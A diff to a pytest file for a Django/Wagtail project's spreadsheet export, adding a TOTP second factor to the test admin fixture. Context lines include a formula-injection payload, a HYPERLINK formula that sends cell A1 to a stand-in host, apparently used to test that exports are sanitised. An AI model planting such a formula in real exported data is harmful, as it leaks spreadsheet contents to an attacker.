@@ -7,6 +7,7 @@ import csv
 import io
 
 import pytest
+from allauth.mfa.models import Authenticator
 from django.contrib.auth import get_user_model
 from openpyxl import load_workbook
 from wagtail.log_actions import log
@@ -29,6 +30,10 @@ EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 def admin_client(client, demo_site):
     user = get_user_model().objects.create_superuser(
         email="csv-admin@example.jp", password="x-secret-42"
+    )
+    # Staff who see personal data have a second factor (issue 15); this one has set it up.
+    Authenticator.objects.get_or_create(
+        user=user, type=Authenticator.Type.TOTP, defaults={"data": {"secret": "JBSWY3DPEHPK3PXP"}}
     )
     client.force_login(user)
     return client
